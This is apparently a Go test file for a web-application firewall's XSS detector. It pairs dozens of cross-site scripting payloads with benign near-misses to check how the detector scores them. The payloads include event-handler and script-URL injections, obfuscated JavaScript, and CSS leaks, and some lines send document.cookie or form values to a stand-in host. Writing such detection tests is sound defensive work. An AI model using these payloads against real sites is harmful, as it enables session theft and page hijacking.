package xss

import (
	"testing"

	"github.com/weirnode/weir/detect/detecttest"
	"github.com/weirnode/weir/point"
)

var detector = detecttest.Detector{Gate: Gate, Scan: Scan, Signs: Signs}

// TestSigns holds every sign to a value that shows it and to one that nearly does.
func TestSigns(t *testing.T) {
	f := detector.CheckSigns(t)
	f(&scriptTag, point.Text, "<\u017fcript src=//k.example></\u017fcript>", "<\u00e9cript src=//k.example>")
	f(&scriptURL, point.Text, "[k](JavaScript:confirm(7))", "[k](javascript:void(0))")
	f(&sinkCall, point.Text, "k\u2028confirm(7)//", "k\u2028confirm it//")
	f(&scriptTag, point.Text, `<script>alert(1)</script>`, `<b>alert</b>`)
	f(&scriptOpen, point.Text, `<script>`, `<scripture>`)
	f(&handler, point.Text, `<img onerror=x>`, `<img online=x>`)
	f(&handlerCode, point.Text, `<img onerror=alert(1)>`, `<img onerror=x>`)
	f(&attrHandler, point.Text, `" onfocus=alert(1) x="`, `"on focus" group`)
	f(&scriptURL, point.Text, `<a href="javascript:alert(1)">x</a>`, `<a href="https://example.com">x</a>`)
	f(&bareURL, point.Text, `javascript:alert(1)`, `javascript: the good parts`)
	f(&activeTag, point.Text, `<base href=//x.example>`, `<base target="_top">`)
	f(&srcdoc, point.Text, `<iframe srcdoc="<b>x</b>">`, `<iframe srcdoc="x">`)
	f(&styleCode, point.Text, `<p style="width:expr/**/ession(alert(1))">`, `<p style="width:10px">`)
	f(&sinkCall, point.Text, `';alert(1)//`, `'alert' the press`)
	f(&jsBreakout, point.Text, `';alert(1)//`, `alert(1)`)
	f(&domAccess, point.Text, `(document.cookie)`, `document the cookie`)
	f(&hiddenMember, point.Text, `(document)['cookie']`, `(document)[cookie]`)
	f(&hiddenMember, point.Text, `document/*k*/.cookie`, `document/*k*/cookies`)
	f(&templateCall, point.Text, "[].map.call`${confirm}7`", "sql.call(`${confirm}7`)")
	f(&computedCall, point.Text, `top[k](1)`, `top [of the page] (1)`)
	f(&symbolsOnly, point.Text, `[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]`, `[ ] [ ] [x] (a) (b)`)
	f(&danglingURL, point.Text, `"><img src='//x.example/?`, `<img src='//x.example/a.png'>`)
	f(&utf7Tag, point.Text, `+ADw-script+AD4-`, `+1 -1 +2`)
	f(&domWrite, point.Text, `document.write('<b>')`, `document.title`)
	f(&sinkPassed, point.Text, `[1].map(alert)`, `[1].map(parse)`)
	f(&styleLeak, point.Text, `<style>a[value^=k]{background:url(//h.example/k)}</style>`, `<style>a[value^=k]{color:red}</style>`)
	f(&tagRest, point.Text, `"confirm(2)">`, `"confirm">`)
	f(&tailComment, point.Text, `';alert(1)//`, `';alert(1)`)
	f(&pageProbe, point.Text, `k7'/"<m2`, `it's"a<b`)
	f(&pageProbe, point.UserAgent, `Browser/5.0 (X11) k7'/"<m2`, `Browser/5.0 (X11; "a" 'b' <c>)`)
}

// TestFamilies holds markup and code, and their near misses, to what must come of them.
func TestFamilies(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	f("put the `<script>` tag at the end of body; alert('k') runs there", false)
	f("`<script>alert(7)</script>`", true)
	// What frameworks load, components and timers.
	f(`<div hx-get="//h.example/k" hx-trigger=load>`, true)
	f(`<p ng-include="'//h.example/k.html'">`, true)
	f(`<component is=script text=alert(1)>`, true)
	f(`<p :a="_c.constructor('alert(1)')()">`, true)
	f(`';setInterval(alert,99,1);'`, true)
	f(`<meta http-equiv=set-cookie content="k=1">`, true)
	f(`<div hx-get="/items" hx-trigger="load">`, false)
	f(`<component is="my-button" text="ok">`, false)
	f(`<teleport to="#modal">x</teleport>`, false)
	f(`<p :a="name">`, false)
	// Sections and comments of XML part what a reader joins.
	f(`<a><![CDATA[<]]>script<![CDATA[>]]>confirm(2)<![CDATA[</]]>script></a>`, true)
	f(`<xml id=k><img src="java<!-- -->script:confirm(2)"></xml>`, true)
	f(`<a><![CDATA[5 < 6 and 7 > 3]]></a>`, false)
	// The rest of a tag.
	f(`"javascript:confirm(2)"><b>`, true)
	f(`"confirm(2)"></audio>`, true)
	f(`"a word">and another`, false)
	f(`width:1px onfilterchange=confirm(2)>k`, true)
	f(`}}</script>'"`, true)
	f(`});</script> closes what <script> opened`, false)
	// Spellings.
	f("\u00a0onfocus=confirm(2) autofocus", true)
	f(`\j\ava\script\:confirm\(2\)`, true)
	f("\xbcscript\xbeconfirm(2)\xbc/script\xbe", true)
	f("\xbc of it", false)
	f(`<style>@im\port '//h.example/k.css';</style>`, true)
	f(`<p style='k:nk("*//*");w:ex/*k*//*/*/pression(confirm(2))'>`, true)
	f(`javascript://own.example/%0aconfirm(2)/a/long/way/behind/it`, true)
	f(`<x:t x:ontimer="confirm(2)">`, true)
	f(`<x:t xlink:once="a">`, false)
	f(`&{document.cookie=2;};`, true)
	f(`a&b={c}`, false)
	// Elements.
	f(`<plaintext>`, true)
	f(`<xml src="k.xml" id=k></xml>`, true)
	f(`<xml version="1">`, false)
	f(`<link rel=stylesheet href=//h.example/k.css>`, true)
	f(`<link rel="canonical" href="https://h.example/k">`, false)
	f(`<meta http-equiv="link" content="<//h.example/k.css>; rel=stylesheet">`, true)
	f(`<a href="http://0x7b.0x1.0x2.0x3/">k</a>`, true)
	f(`<a href="http://192.0.2.7/">k</a>`, false)
	f(`<iframe src="view-source:http://h.example/" width=4></iframe>`, true)
	// What pages and components are written with.
	f(`<form action="/s" method="post"><button onclick="return confirm('Really?')">Go</button></form>`, false)
	f(`<img src=a.jpg onerror="return confirm(document.cookie)">`, true)
	f(`<img src="k.jpg" onerror="this.src='none.png'">`, false)
	f(`<img src="k.jpg" onerror="this.src='//h.example/?'+document.cookie">`, true)
	f(`<li onclick="pick(3)">three</li>`, false)
	f(`<li onclick="alert(3)">three</li>`, true)
	f(`<Button onClick={() => setOpen(!open)} disabled={loading}>Add</Button>`, false)
	f(`<img src=x onError={alert(2)}>`, true)
	f(`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'></svg>">`, false)
	f(`<object data="data:image/svg+xml;base64,PHN2Zz4=">`, true)
	f(`<script async src="//www.instagram.com/embed.js"></script>`, false)
	f(`<script async src="//www.instagram.com.h.example/embed.js"></script>`, true)
	f(`<script> defer vs async`, false)
	f(`<script>var k=open`, true)
	f(`$(function(){$('.k').on('click',function(e){location.href=$(this).data('to')})});`, false)
	f(`self.write(", ")`, false)
	f(`self.prompt = prompt`, false)
	f(`self.alert(2)`, true)
	f(`<script src="popup.js"></script>`, false)
	f(`<script src="//h.example/popup.js"></script>`, true)
	// What leaks without a script.
	f(`<style>input[name=k][value^=a]{background:url(//h.example/a)}</style>`, true)
	f(`<style>@font-face{font-family:k;src:url(//h.example/?A);unicode-range:U+41}</style>`, true)
	f(`<style>a{background:url(//cdn.example/a.png)}</style>`, false)
	f(`<form action="https://h.example/">Password: <input name=k type=password></form>`, true)
	f(`<form action="https://h.example/"><input name=k></form>`, false)
	f(`<p oncontentvisibilityautostatechange=confirm(2) style="content-visibility:auto">`, true)
	f(`{{[1]|orderBy:'(k=alert)(2)'}}`, true)
	f(`{{list|orderBy:'name'}}`, false)
	// Probes.
	f(`9'k<'">k`, true)
	f(`$a='<b id="'.$k.'">'.$v.'</b>';`, false)
	f(`it's 5" < 6"`, false)
	f(`this[_setRow](rows[0])`, false)
	f(`this['al'+'ert'](7)`, true)
	// Operators that are words, and objects that an operator makes a text.
	f(`k"in(confirm(2))in"`, true)
	f(`k'instanceof confirm(2)instanceof'`, true)
	f(`length "in" (cm)`, false)
	f(`'+{toString:confirm}+'`, true)
	f(`var o = {toString: f}; var p = {valueOf: g};`, false)
	f(`object {toString:alert} prints?`, false)
	// Links of other languages.
	f("graph TD\nA-->B\nclick A \"javascript:confirm(2)\"", true)
	f("graph TD\nA-->B\nclick A \"https://h.example/\"", false)
	f(`digraph{k[URL="javascript:confirm(2)"]}`, true)
	f(`[url="javascript:confirm(2)"]k[/url]`, true)
	f("`k <javascript:confirm(2)>`_", true)
	f(`what is "javascript:alert(1)" in a link?`, false)
	// Attributes of frameworks, old elements, names that hide others.
	f(`<p _="on load call confirm(2)">`, true)
	f(`<p _="on click toggle .open then call load()">`, false)
	f(`<p (click)="confirm(2)">`, true)
	f(`<p (click)="open()" [hidden]="!k" wire:click="save">`, false)
	f(`<applet code="K.class" archive="//h.example/k.jar"></applet>`, true)
	f(`<applet code="K.class">`, true)
	f(`<applet width=90>`, false)
	f(`<layer src=//h.example/k></layer>`, true)
	f(`<a id=k><a id=k name=l href="//h.example/">`, true)
	f(`<a id="k" name="k" href="//h.example/">k</a>`, false)
	f(`<img name=currentScript src=k>`, true)
}

// TestWorstCasesEnd feeds inputs that could make a scan quadratic.
func TestWorstCasesEnd(*testing.T) {
	detector.ReadRepeated(point.Text, "<a id=k name=l href=//m>", "[url=javascript:f(", "'in ", "{toString:", `<p _="on call js `)
}

func TestScriptEndsWhatBegan(t *testing.T) {
	for text, want := range map[string]int{
		"\"<scripta>ale rt(1)</script>\"></if#": 0, // whatever else its name is
		"\"<scroll>ale rt(1)</script>\"></if#":  6,
	} {
		if got := detector.Read(text, point.Text); got.Score() != want {
			t.Errorf("%q scores %d, want %d", text, got.Score(), want)
		}
	}
}
